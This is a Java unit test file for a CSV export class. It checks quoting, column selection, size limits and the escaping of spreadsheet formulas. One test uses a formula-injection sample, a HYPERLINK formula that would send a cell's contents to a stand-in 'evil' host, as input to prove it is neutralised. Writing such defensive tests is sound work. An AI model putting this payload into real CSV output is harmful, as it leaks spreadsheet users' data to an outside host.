package io.scrapr.endpoint.core;

import static io.scrapr.endpoint.core.Items.item;
import static io.scrapr.endpoint.core.Items.query;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTableTest {

  @Test
  void the_header_is_the_union_of_fields_and_missing_or_null_values_are_empty_cells() {
    Snapshot snapshot =
        Items.snapshot(
            List.of(item("{\"title\":\"a\",\"url\":\"u\"}"), item("{\"title\":null,\"price\":2}")));

    assertThat(render(snapshot, Projection.all())).isEqualTo("title,url,price\r\na,u,\r\n,,2\r\n");
  }

  @Test
  void cells_with_commas_quotes_or_line_breaks_are_quoted_and_quotes_doubled() {
    assertThat(CsvTable.quote("plain text")).isEqualTo("plain text");
    assertThat(CsvTable.quote("a,b")).isEqualTo("\"a,b\"");
    assertThat(CsvTable.quote("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
    assertThat(CsvTable.quote("line\nbreak")).isEqualTo("\"line\nbreak\"");
    assertThat(CsvTable.quote("cr\rhere")).isEqualTo("\"cr\rhere\"");
    assertThat(CsvTable.quote("")).isEmpty();
  }

  @Test
  void nested_values_are_written_as_json_text_and_scalars_as_their_text() {
    Snapshot snapshot =
        Items.snapshot(
            List.of(
                item(
                    "{\"tags\":[\"a\",\"b\"],\"meta\":{\"k\":1},\"ok\":true,\"n\":1.25,"
                        + "\"s\":\"x\"}")));

    assertThat(render(snapshot, Projection.all()))
        .isEqualTo(
            "tags,meta,ok,n,s\r\n\"[\"\"a\"\",\"\"b\"\"]\",\"{\"\"k\"\":1}\",true,1.25,x\r\n");
  }

  @Test
  void fields_asked_for_are_the_columns_in_the_order_asked_even_when_absent() {
    Snapshot snapshot = Items.snapshot(List.of(item("{\"title\":\"a\",\"url\":\"u\"}")));

    assertThat(render(snapshot, Projection.only(List.of("url", "isbn", "title"))))
        .isEqualTo("url,isbn,title\r\nu,,a\r\n");
    assertThat(render(snapshot, Projection.omit(List.of("title")))).isEqualTo("url\r\nu\r\n");
  }

  @Test
  void a_header_is_written_even_for_an_empty_page() {
    Snapshot snapshot = Items.snapshot(List.of(item("{\"title\":\"a\"}")));
    PageQuery none = new PageQuery(5, 10, false, Projection.all(), Format.CSV);

    assertThat(
            new String(
                CsvTable.render(snapshot, none, snapshot.page(none)), StandardCharsets.UTF_8))
        .isEqualTo("title\r\n");
  }

  @Test
  void a_formula_is_prefixed_with_a_quote_and_quoted_so_a_spreadsheet_shows_it_as_text() {
    Snapshot snapshot =
        Items.snapshot(
            List.of(item("{\"link\":\"=HYPERLINK(\\\"http://evil/?x=\\\"&A1,\\\"click\\\")\"}")));

    assertThat(render(snapshot, Projection.all()))
        .isEqualTo("link\r\n\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\"\r\n");
  }

  @ParameterizedTest
  @ValueSource(strings = {"=1+1", "+1", "-1", "@A1", "\tcmd", "\rcmd"})
  void text_starting_with_a_formula_character_is_neutralised(String text) {
    assertThat(CsvTable.text(text)).isEqualTo("\"'" + text + "\"");
  }

  @Test
  void other_text_and_numbers_are_left_alone_and_field_names_are_neutralised_too() {
    Snapshot snapshot = Items.snapshot(List.of(item("{\"=cmd\":-5,\"b\":\"a=1\",\"c\":\"\"}")));

    assertThat(render(snapshot, Projection.all())).isEqualTo("\"'=cmd\",b,c\r\n-5,a=1,\r\n");
  }

  @Test
  void more_than_200_columns_are_refused_naming_fields() {
    StringBuilder json = new StringBuilder("{");
    for (int i = 1; i <= CsvTable.MAX_COLUMNS + 1; i++) {
      json.append(i > 1 ? "," : "").append("\"f").append(i).append("\":").append(i);
    }
    Snapshot snapshot = Items.snapshot(List.of(item(json.append('}').toString())));

    assertThatThrownBy(() -> render(snapshot, Projection.all()))
        .isInstanceOfSatisfying(
            AnswerTooLargeException.class,
            e -> {
              assertThat(e.parameter()).isEqualTo("fields");
              assertThat(e.getMessage()).contains("201 fields").contains("fields=");
            });
    assertThat(render(snapshot, Projection.only(List.of("f201")))).isEqualTo("f201\r\n201\r\n");
    assertThat(render(snapshot, Projection.omit(List.of("f1")))).startsWith("f2,");
  }

  @Test
  void a_table_past_the_byte_cap_is_refused_naming_limit_before_it_is_rendered_whole() {
    List<com.fasterxml.jackson.databind.node.ObjectNode> items = new ArrayList<>();
    for (int i = 0; i < 100; i++) {
      items.add(item("{\"n\":" + i + ",\"text\":\"" + "x".repeat(100) + "\"}"));
    }
    Snapshot snapshot = Items.snapshot(items);
    PageQuery query = new PageQuery(0, 100, false, Projection.all(), Format.CSV);

    assertThatThrownBy(() -> CsvTable.render(snapshot, query, snapshot.page(query), 1000))
        .isInstanceOfSatisfying(
            AnswerTooLargeException.class,
            e -> {
              assertThat(e.parameter()).isEqualTo("limit");
              assertThat(e.getMessage()).contains("1000 bytes after 9 rows").contains("limit=4");
            });
    assertThat(CsvTable.render(snapshot, query, snapshot.page(query), 100_000))
        .hasSizeLessThan(11_000);
    assertThat(CsvTable.MAX_BYTES).isEqualTo(8 * 1024 * 1024);
  }

  private static String render(Snapshot snapshot, Projection projection) {
    PageQuery query = query(projection, Format.CSV);
    return new String(
        CsvTable.render(snapshot, query, snapshot.page(query)), StandardCharsets.UTF_8);
  }
}
